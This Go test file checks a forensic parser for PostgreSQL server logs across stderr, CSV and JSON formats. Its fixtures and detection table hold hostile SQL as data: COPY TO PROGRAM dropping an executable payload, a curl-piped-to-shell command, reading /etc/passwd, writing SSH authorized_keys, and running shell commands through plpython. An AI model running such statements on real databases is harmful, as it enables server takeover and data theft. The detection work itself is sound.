package pglog

import (
	"bytes"
	"math/rand"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/formats/internal/textio"
	"github.com/cordon-forensics/cordon/timeline"
)

func parse(t testing.TB, data string, o timeline.Origin, opts Options) ([]timeline.Event, []timeline.Warning) {
	t.Helper()
	var evs []timeline.Event
	var ws []timeline.Warning
	if o.Entry == "" {
		o.Entry = "fs/var/log/postgresql/postgresql-15-main.log"
	}
	if err := Parse(strings.NewReader(data), o, opts, func(e timeline.Event) { evs = append(evs, e) }, func(w timeline.Warning) { ws = append(ws, w) }); err != nil {
		t.Fatal(err)
	}
	return evs, ws
}

// debian is a session as Debian's default prefix '%m [%p] %q%u@%d ' logs it.
const debian = `2026-11-23 03:15:13.071 UTC [30123] LOG:  listening on IPv4 address "0.0.0.0", port 5432
2026-11-23 03:15:17.282 UTC [30155] [unknown]@[unknown] LOG:  connection received: host=10.213.0.2 port=56946
2026-11-23 03:15:17.288 UTC [30155] postgres@postgres LOG:  connection authorized: user=postgres database=postgres application_name=psql SSL enabled (protocol=TLSv1.3)
2026-11-23 03:15:17.293 UTC [30155] postgres@postgres LOG:  statement: SELECT
	  2 AS two,
	  'x';
2026-11-23 03:15:17.300 UTC [30155] postgres@postgres LOG:  statement: COPY cordon_payload TO PROGRAM 'base64 -d > /tmp/mysql && chmod 755 /tmp/mysql';
2026-11-23 03:15:17.301 UTC [30155] postgres@postgres ERROR:  relation "nope" does not exist at character 15
2026-11-23 03:15:17.301 UTC [30155] postgres@postgres STATEMENT:  SELECT * FROM nope;
2026-11-23 03:15:17.309 UTC [30155] postgres@postgres LOG:  disconnection: session time: 0:00:00.027 user=postgres database=postgres host=10.213.0.2 port=56946
2026-11-23 03:15:18.000 UTC [30160] [unknown]@[unknown] LOG:  connection received: host=10.213.0.2 port=56950
2026-11-23 03:15:18.001 UTC [30160] root@root FATAL:  role "root" does not exist
2026-11-23 03:15:19.000 UTC [30170] [unknown]@[unknown] LOG:  connection received: host=203.0.113.5 port=40000
2026-11-23 03:15:19.001 UTC [30170] app@appdb FATAL:  password authentication failed for user "app"
2026-11-23 03:15:19.001 UTC [30170] app@appdb DETAIL:  Connection matched pg_hba.conf line 99: "host all all 0.0.0.0/0 md5"
sh: 1: cannot create /root/x: Permission denied
`

func TestStderrDebianPrefix(t *testing.T) {
	evs, ws := parse(t, debian, timeline.Origin{Host: "db01"}, Options{})
	if len(ws) != 0 {
		t.Errorf("warnings: %+v", ws)
	}
	var actions []string
	for _, e := range evs {
		actions = append(actions, e.Event.Action)
	}
	want := "log,connection-received,connection-authorized,statement,statement,error,disconnection,connection-received,authentication-failed,connection-received,authentication-failed,log"
	if got := strings.Join(actions, ","); got != want {
		t.Fatalf("actions\n got %s\nwant %s", got, want)
	}
	rcv := evs[1]
	if rcv.Source == nil || rcv.Source.IP != "10.213.0.2" || rcv.Source.Port != 56946 || rcv.Process.PID != 30155 ||
		!rcv.Timestamp.Equal(time.Date(2026, 11, 23, 3, 15, 17, 282e6, time.UTC)) || rcv.Cordon.Provenance.Line != 2 {
		t.Errorf("connection received: %+v %+v", rcv, rcv.Source)
	}
	auth := evs[2]
	if auth.User.Name != "postgres" || auth.Labels["postgresql.database"] != "postgres" || auth.Labels["postgresql.application"] != "psql" || auth.Event.Outcome != "success" {
		t.Errorf("authorized: %+v", auth)
	}
	multi := evs[3]
	if multi.Labels["postgresql.statement"] != "SELECT\n  2 AS two,\n  'x';" || multi.Source.IP != "10.213.0.2" || multi.Source.Port != 56946 {
		t.Errorf("multi-line statement %q from %+v", multi.Labels["postgresql.statement"], multi.Source)
	}
	cp := evs[4]
	if cp.Labels["postgresql.dangerous"] != KindCopyProgram || cp.Labels["postgresql.program"] != "base64 -d > /tmp/mysql && chmod 755 /tmp/mysql" ||
		cp.User.Name != "postgres" || cp.Source.IP != "10.213.0.2" || !strings.Contains(cp.Message, "TO PROGRAM") {
		t.Errorf("COPY TO PROGRAM: %+v", cp)
	}
	if e := evs[5]; e.Labels["postgresql.statement"] != "SELECT * FROM nope;" || e.Event.Outcome != "failure" {
		t.Errorf("error with its STATEMENT: %+v", e)
	}
	if e := evs[8]; e.User.Name != "root" || e.Source.IP != "10.213.0.2" || e.Event.Outcome != "failure" {
		t.Errorf("unknown role: %+v", e)
	}
	if e := evs[10]; e.User.Name != "app" || e.Source.IP != "203.0.113.5" || !strings.Contains(e.Labels["postgresql.detail"], "pg_hba.conf line 99") {
		t.Errorf("password failure with DETAIL: %+v", e)
	}
	if e := evs[11]; !strings.Contains(e.Message, "cannot create /root/x") || e.Cordon.Provenance.Line != 16 {
		t.Errorf("a program's output line: %+v", e)
	}
}

func TestStderrPrefixForms(t *testing.T) {
	for _, c := range []struct {
		name, prefix, line string
		pid                int64
		user, db, ip       string
		port               int
		when               time.Time
	}{
		{"postgres default", "", "2026-11-02 10:24:55.123 CET [4242] LOG:  statement: SELECT 1", 4242, "", "", "", 0,
			time.Date(2026, 11, 2, 9, 24, 55, 123e6, time.UTC)},
		{"pgbadger", "", "2026-11-02 10:24:55 UTC [4242]: [3-1] user=app,db=shop,app=psql,client=198.51.100.7 LOG:  statement: SELECT 1", 4242, "app", "shop", "198.51.100.7", 0,
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC)},
		{"remote with port", "", "2026-11-02 10:24:55.5 +01 [4242] app@shop 198.51.100.7(5555) LOG:  statement: SELECT 1", 4242, "app", "shop", "198.51.100.7", 5555,
			time.Date(2026, 11, 2, 9, 24, 55, 5e8, time.UTC)},
		{"epoch", "", "1762079095.250 [4242] LOG:  statement: SELECT 1", 4242, "", "", "", 0, time.Unix(1762079095, 25e7).UTC()},
		{"given prefix", "%t|%p|%u|%d|%r|%a|", "2026-11-02 10:24:55 UTC|4242|app|shop|198.51.100.7(5555)|my app|LOG:  statement: SELECT 1", 4242, "app", "shop", "198.51.100.7", 5555,
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC)},
		{"given prefix, line in another form (rotated before a change)", "%t|%p|%u|%d|", "2026-11-02 10:24:55.000 UTC [77] app@shop LOG:  statement: SELECT 1", 77, "app", "shop", "", 0,
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC)},
		{"given prefix with %q, non-session line", "%m [%p] %q%u@%d ", "2026-11-02 10:24:55.000 UTC [99] LOG:  checkpoint starting: time", 99, "", "", "", 0,
			time.Date(2026, 11, 2, 10, 24, 55, 0, time.UTC)},
	} {
		t.Run(c.name, func(t *testing.T) {
			cet, _ := time.LoadLocation("Europe/Paris")
			evs, ws := parse(t, c.line+"\n", timeline.Origin{Location: cet}, Options{LinePrefix: c.prefix})
			if len(evs) != 1 || len(ws) != 0 {
				t.Fatalf("%d events, warnings %+v", len(evs), ws)
			}
			e := evs[0]
			if e.Process.PID != c.pid || !e.Timestamp.Equal(c.when) {
				t.Errorf("pid %d time %v (%s)", e.Process.PID, e.Timestamp, e.Cordon.TimeDerivation)
			}
			if c.user != "" && (e.User == nil || e.User.Name != c.user || e.Labels["postgresql.database"] != c.db) {
				t.Errorf("user %+v db %q", e.User, e.Labels["postgresql.database"])
			}
			if c.ip != "" && (e.Source == nil || e.Source.IP != c.ip || e.Source.Port != c.port) {
				t.Errorf("source %+v", e.Source)
			}
		})
	}
	if _, err := compilePrefix("%Z"); err == nil {
		t.Error("an unknown escape was accepted")
	}
	if _, err := compilePrefix(strings.Repeat("%u", maxEscapes+1)); err == nil {
		t.Error("a prefix of too many escapes was accepted")
	}
}

// TestStderrMeanings: what a line says, when the prefix does not say it.
func TestStderrMeanings(t *testing.T) {
	// log_error_verbosity = verbose: the SQLSTATE before the message, and a
	// LOCATION line; without log_connections the client is read from the
	// message itself.
	const verbose = `2026-11-23 03:15:18.001 UTC [30160] LOG:  00000: statement: SELECT * FROM nope
2026-11-23 03:15:18.002 UTC [30160] ERROR:  42P01: relation "nope" does not exist at character 15
2026-11-23 03:15:18.002 UTC [30160] LOCATION:  parserOpenTable, parse_relation.c:1392
2026-11-23 03:15:18.002 UTC [30160] STATEMENT:  SELECT * FROM nope
2026-11-23 03:15:19.000 UTC [30170] FATAL:  28000: no pg_hba.conf entry for host "203.0.113.9", user "admin", database "shop", no encryption
2026-11-23 03:15:20.000 UTC [30180] LOG:  disconnection: session time: 0:00:01.000 user=app database=shop host=198.51.100.4 port=40404
`
	evs, ws := parse(t, verbose, timeline.Origin{}, Options{})
	if len(evs) != 4 || len(ws) != 0 {
		t.Fatalf("%d events, warnings %+v", len(evs), ws)
	}
	if e := evs[0]; e.Event.Action != "statement" || e.Labels["postgresql.statement"] != "SELECT * FROM nope" || e.Labels["postgresql.sqlstate"] != "00000" {
		t.Errorf("verbose statement: %+v", e)
	}
	if e := evs[1]; e.Event.Action != "error" || e.Labels["postgresql.sqlstate"] != "42P01" || e.Labels["postgresql.location"] != "parserOpenTable, parse_relation.c:1392" ||
		e.Labels["postgresql.statement"] != "SELECT * FROM nope" {
		t.Errorf("verbose error: %+v", e)
	}
	if e := evs[2]; e.Event.Action != "authentication-failed" || e.User.Name != "admin" || e.Source == nil || e.Source.IP != "203.0.113.9" ||
		e.Labels["postgresql.database"] != "shop" || e.Labels["postgresql.sqlstate"] != "28000" {
		t.Errorf("pg_hba rejection: %+v %+v", e, e.Source)
	}
	if e := evs[3]; e.Event.Action != "disconnection" || e.User.Name != "app" || e.Source.IP != "198.51.100.4" || e.Source.Port != 40404 {
		t.Errorf("disconnection: %+v %+v", e, e.Source)
	}

	// %h prints no port: the port comes from the connection received line;
	// a backend's session is forgotten at its disconnection (PIDs are reused).
	const hostOnly = `2026-11-23 03:15:17 UTC [500] 10.0.0.5 LOG:  connection received: host=10.0.0.5 port=5999
2026-11-23 03:15:17 UTC [500] 10.0.0.5 LOG:  statement: SELECT 1
2026-11-23 03:15:18 UTC [500] 10.0.0.5 LOG:  disconnection: session time: 0:00:01.000 user=a database=b host=10.0.0.5 port=5999
2026-11-23 03:15:19 UTC [500] 10.0.0.6 LOG:  statement: SELECT 2
`
	evs, ws = parse(t, hostOnly, timeline.Origin{}, Options{LinePrefix: "%t [%p] %h "})
	if len(evs) != 4 || len(ws) != 0 {
		t.Fatalf("%d events, warnings %+v", len(evs), ws)
	}
	if e := evs[1]; e.Source.IP != "10.0.0.5" || e.Source.Port != 5999 {
		t.Errorf("statement's client: %+v", e.Source)
	}
	if e := evs[3]; e.Source.IP != "10.0.0.6" || e.Source.Port != 0 || e.User != nil {
		t.Errorf("a reused PID kept the old session: %+v %+v", e.Source, e.User)
	}

	// an ambiguous abbreviation nothing resolves (CST: US Central, China,
	// Cuba): UTC, said in the derivation and warned once
	const cst = `2026-11-23 03:15:17.000 CST [1] LOG:  statement: SELECT 1
2026-11-23 03:15:18.000 CST [1] LOG:  statement: SELECT 2
`
	evs, ws = parse(t, cst, timeline.Origin{Location: time.UTC}, Options{})
	if len(evs) != 2 || len(ws) != 1 || !strings.Contains(ws[0].Message, `"CST"`) ||
		!evs[1].Timestamp.Equal(time.Date(2026, 11, 23, 3, 15, 18, 0, time.UTC)) || !strings.Contains(evs[1].Cordon.TimeDerivation, "taken as UTC") {
		t.Errorf("unresolved zone: %+v %+v", evs, ws)
	}
	// the cluster's log_timezone resolves it
	evs, ws = parse(t, cst, timeline.Origin{Location: time.UTC, Settings: map[string]string{SettingLogTimezone: "America/Chicago"}}, Options{})
	if len(ws) != 0 || !evs[0].Timestamp.Equal(time.Date(2026, 11, 23, 9, 15, 17, 0, time.UTC)) || !strings.Contains(evs[0].Cordon.TimeDerivation, "log_timezone America/Chicago") {
		t.Errorf("CST by log_timezone: %v %s %+v", evs[0].Timestamp, evs[0].Cordon.TimeDerivation, ws)
	}
	// an unambiguous one is resolved by the table, with no zone known
	const est = `2026-11-23 03:15:17.000 EST [1] LOG:  statement: SELECT 1
`
	evs, ws = parse(t, est, timeline.Origin{}, Options{})
	if len(ws) != 0 || !evs[0].Timestamp.Equal(time.Date(2026, 11, 23, 8, 15, 17, 0, time.UTC)) || !strings.Contains(evs[0].Cordon.TimeDerivation, "UTC-05:00") {
		t.Errorf("EST by the table: %v %s %+v", evs[0].Timestamp, evs[0].Cordon.TimeDerivation, ws)
	}
	ny, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Skip(err)
	}
	evs, ws = parse(t, est, timeline.Origin{Location: ny}, Options{})
	if len(ws) != 0 || !evs[0].Timestamp.Equal(time.Date(2026, 11, 23, 8, 15, 17, 0, time.UTC)) {
		t.Errorf("EST in America/New_York: %v %+v", evs[0].Timestamp, ws)
	}
}

func TestCSVAndJSON(t *testing.T) {
	csvLog := `2026-11-23 03:15:17.282 UTC,,,30155,"10.213.0.2:56946",6921b0e5.75cb,1,"",2026-11-23 03:15:17 UTC,,0,LOG,00000,"connection received: host=10.213.0.2 port=56946",,,,,,,,,"","not initialized",,0
2026-11-23 03:15:17.300 UTC,"postgres","postgres",30155,"10.213.0.2:56946",6921b0e5.75cb,4,"COPY",2026-11-23 03:15:17 UTC,3/7,0,LOG,00000,"statement: COPY t TO PROGRAM 'id
> /tmp/out'",,,,,,,,,"psql","client backend",,0
not,a,record
`
	evs, ws := parse(t, csvLog, timeline.Origin{Entry: "fs/var/lib/postgresql/15/main/log/postgresql-2026-11-23.csv"}, Options{})
	if len(evs) != 2 || len(ws) != 1 || ws[0].Line != 4 {
		t.Fatalf("%d events, warnings %+v", len(evs), ws)
	}
	if e := evs[1]; e.Labels["postgresql.program"] != "id\n> /tmp/out" || e.Source.Port != 56946 || e.Process.PID != 30155 ||
		e.Labels["postgresql.backend_type"] != "client backend" || e.Cordon.Provenance.Line != 2 {
		t.Errorf("csv statement: %+v", e)
	}
	jsonLog := `{"timestamp":"2026-11-23 03:15:17.300 UTC","user":"postgres","dbname":"postgres","pid":30155,"remote_host":"10.213.0.2","remote_port":56946,"session_id":"6921b0e5.75cb","line_num":4,"ps":"COPY","session_start":"2026-11-23 03:15:17 UTC","vxid":"3/7","txid":0,"error_severity":"LOG","message":"statement: COPY t TO PROGRAM 'id'","application_name":"psql","backend_type":"client backend","query_id":0}
{broken
`
	evs, ws = parse(t, jsonLog, timeline.Origin{Entry: "fs/var/lib/postgresql/15/main/log/postgresql-2026-11-23.json"}, Options{})
	if len(evs) != 1 || len(ws) != 1 || ws[0].Line != 2 {
		t.Fatalf("%d events, warnings %+v", len(evs), ws)
	}
	if e := evs[0]; e.Labels["postgresql.dangerous"] != KindCopyProgram || e.Source.IP != "10.213.0.2" || e.User.Name != "postgres" {
		t.Errorf("json statement: %+v", e)
	}
	// the format is told by content when the name does not tell it
	evs, _ = parse(t, jsonLog, timeline.Origin{Entry: "fs/var/log/postgresql/current"}, Options{})
	if len(evs) != 1 {
		t.Errorf("jsonlog by content: %d events", len(evs))
	}
}

func TestDangerous(t *testing.T) {
	for sql, kind := range map[string]string{
		"COPY t TO PROGRAM 'id'":                     KindCopyProgram,
		"copy t from program $$curl http://x | sh$$": KindCopyProgram,
		"CREATE OR REPLACE FUNCTION s(text) RETURNS int AS '/tmp/x.so', 's' LANGUAGE C STRICT": KindFunctionC,
		"create function f() returns text as $$ import os $$ language plpython3u":              KindFunctionC,
		"SELECT lo_export(16400, '/tmp/x')":                                                    KindLargeObject,
		"SELECT pg_read_file('/etc/passwd')":                                                   KindServerFile,
		"ALTER SYSTEM SET archive_command = 'sh /tmp/x'":                                       KindAlterSystem,
		"COPY t TO '/var/lib/postgresql/.ssh/authorized_keys'":                                 KindServerFile,
		"GRANT pg_execute_server_program TO app":                                               KindServerFile,
		"DO LANGUAGE plpython3u $$ import os; os.system('id') $$":                              KindFunctionC,
		"CREATE FUNCTION f() RETURNS void LANGUAGE plperlu AS $$ `id` $$":                      KindFunctionC,
		"CREATE EXTENSION IF NOT EXISTS plpython3u":                                            KindExtension,
		"COPY t FROM STDIN":                   "",
		"SELECT 1":                            "",
		"INSERT INTO t VALUES ('to program')": "",
	} {
		if got, _ := Dangerous(sql); got != kind {
			t.Errorf("Dangerous(%q) = %q, want %q", sql, got, kind)
		}
	}
	if _, p := Dangerous("COPY t TO PROGRAM 'echo ''hi'' > /tmp/a'"); p != "echo 'hi' > /tmp/a" {
		t.Errorf("program %q", p)
	}
}

// TestGarbage: random bytes, NULs, a huge line and broken CSV give
// warnings or plain events, never a panic, and the parser goes on.
func TestGarbage(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	junk := make([]byte, 1<<20)
	rng.Read(junk)
	long := bytes.Repeat([]byte("A"), MaxLine+10)
	for _, format := range []string{FormatStderr, FormatCSV, FormatJSON} {
		for _, in := range [][]byte{junk, append(append(long, '\n'), []byte(debian)...), []byte("\x00\x00\"unterminated,\n\t\tcontinuation\n"), nil} {
			n := 0
			err := Parse(bytes.NewReader(in), timeline.Origin{Entry: "x"}, Options{Format: format}, func(timeline.Event) { n++ }, func(timeline.Warning) {})
			if err != nil {
				t.Errorf("%s: %v", format, err)
			}
		}
	}
	evs, ws := parse(t, string(long)+"\n"+debian, timeline.Origin{}, Options{})
	if len(evs) != 12 || len(ws) != 1 || ws[0].Line != 1 {
		t.Errorf("after an overlong line: %d events, %+v", len(evs), ws)
	}
}

// TestLongMessages: a message of many continuation lines, or many DETAIL
// lines, is gathered in linear time and bounded (it once took 50 s for
// 2 MB of "\tx" lines, each line copying the message so far).
func TestLongMessages(t *testing.T) {
	const head = "2026-11-23 03:15:18.001 UTC [1] LOG:  statement: SELECT\n"
	for name, in := range map[string]string{
		"tab lines":    head + "\t\n\t1\n" + strings.Repeat("\tx\n", 600_000),
		"DETAIL lines": head + strings.Repeat("2026-11-23 03:15:18.001 UTC [1] DETAIL:  y\n", 40_000),
	} {
		start := time.Now()
		evs, ws := parse(t, in, timeline.Origin{}, Options{})
		if d := time.Since(start); d > 30*time.Second {
			t.Errorf("%s: %v", name, d)
		}
		if len(evs) != 1 || len(ws) != 0 {
			t.Fatalf("%s: %d events, %+v", name, len(evs), ws)
		}
		e := evs[0]
		if name == "tab lines" {
			sql := e.Labels["postgresql.statement"]
			if !strings.HasPrefix(sql, "SELECT\n\n1\nx\nx") || len(sql) > MaxStatement+8 || e.Labels["postgresql.statement_truncated"] == "" {
				t.Errorf("%s: statement of %d bytes %q…, truncated %q", name, len(sql), textio.Cut(sql, 20), e.Labels["postgresql.statement_truncated"])
			}
		} else if d := e.Labels["postgresql.detail"]; !strings.HasPrefix(d, "y\ny\n") || len(d) > 4096+8 {
			t.Errorf("%s: detail of %d bytes", name, len(d))
		}
	}
}

// The specifications of findSeverity and bracketedNumber, checked against
// them in FuzzParse.
var (
	reSeverity = regexp.MustCompile(`(?:^|\s)(LOG|ERROR|WARNING|FATAL|PANIC|NOTICE|INFO|DEBUG[1-5]?|DETAIL|HINT|STATEMENT|CONTEXT|QUERY|LOCATION):  `)
	reAutoPID  = regexp.MustCompile(`\[(\d{1,10})(?:-(\d{1,10}))?\]`)
)

func checkScanners(t *testing.T, line string) {
	start, end, ok := findSeverity(line)
	if loc := reSeverity.FindStringSubmatchIndex(line); (loc != nil) != ok || ok && (loc[2] != start || loc[3] != end) {
		t.Fatalf("findSeverity(%q) = %d, %d, %v; the expression says %v", line, start, end, ok, loc)
	}
	want, wantNum := "", ""
	if m := reAutoPID.FindStringSubmatch(line); m != nil {
		want, wantNum = m[1], m[2]
	}
	if got, num := bracketedNumber(line); got != want || num != wantNum {
		t.Fatalf("bracketedNumber(%q) = %q, %q, want %q, %q", line, got, num, want, wantNum)
	}
}

func TestScanners(t *testing.T) {
	for _, l := range []string{"", "LOG:  x", " LOG:  x", "xLOG:  x", "1LOG:  x", "[1] ERROR: x ERROR:  y", "ABCSTATEMENT:  x", "a\tDEBUG5:  x",
		"DEBUG6:  x DEBUG:  y", "[] [12345678901] [x1] [42]", "[123", "[0] LOCATION:  :  ",
		"[203851-1] x", "[1-] [2-3]", "[12345678901-1] [4-5]", "[1-12345678901] [6]"} {
		checkScanners(t, l)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(debian), "")
	f.Add([]byte("2026-11-02 10:24:55 UTC|4242|app|LOG:  statement: x\n"), "%t|%p|%u|")
	// the forms of plaso's postgresql.log: an indented DETAIL continuation, AEST, [%p-%l]
	f.Add([]byte("2022-04-12 00:24:24.741 UTC [9158] postgres@postgres FATAL:  password authentication failed for user \"postgres\"\n"+
		"2022-04-12 00:24:24.741 UTC [9158] postgres@postgres DETAIL:  User \"postgres\" has no password assigned.\n"+
		"        Connection matched pg_hba.conf line 96: \"host all all 127.0.0.1/32 md5\"\n"+
		"2022-07-15 23:04:27 AEST [203851-1] user@databasename LOG:  could not receive data from client: Connection reset by peer\n"), "")
	f.Add([]byte("2026-11-23 03:15:17.282 UTC [30155-3] 6921a3f5.75cb LOG:  statement: SELECT 1\n"), "%m [%p-%l] %c ")
	f.Fuzz(func(t *testing.T, data []byte, prefix string) {
		for _, l := range strings.Split(string(data), "\n") {
			checkScanners(t, l)
		}
		for _, format := range []string{FormatStderr, FormatCSV, FormatJSON, ""} {
			_ = Parse(bytes.NewReader(data), timeline.Origin{Entry: "fuzz.log"}, Options{Format: format, LinePrefix: prefix},
				func(e timeline.Event) {
					if len(e.Message) > 8192 {
						t.Fatalf("message of %d bytes", len(e.Message))
					}
				}, func(timeline.Warning) {})
		}
	})
}

// BenchmarkStderr measures stderr lines read a second (Debian's prefix,
// recognised; about 130 bytes a line).
func BenchmarkStderr(b *testing.B) {
	benchLines(b, Options{Format: FormatStderr})
}

// BenchmarkStderrGivenPrefix is the same with the prefix given.
func BenchmarkStderrGivenPrefix(b *testing.B) {
	benchLines(b, Options{Format: FormatStderr, LinePrefix: "%m [%p] %q%u@%d "})
}

func benchLines(b *testing.B, opts Options) {
	var sb strings.Builder
	lines := 0
	for sb.Len() < 8<<20 {
		sb.WriteString(debian)
		lines += strings.Count(debian, "\n")
	}
	data := sb.String()
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = Parse(strings.NewReader(data), timeline.Origin{Entry: "x.log"}, opts, func(timeline.Event) {}, func(timeline.Warning) {})
	}
	b.ReportMetric(float64(lines*b.N)/b.Elapsed().Seconds(), "lines/s")
}
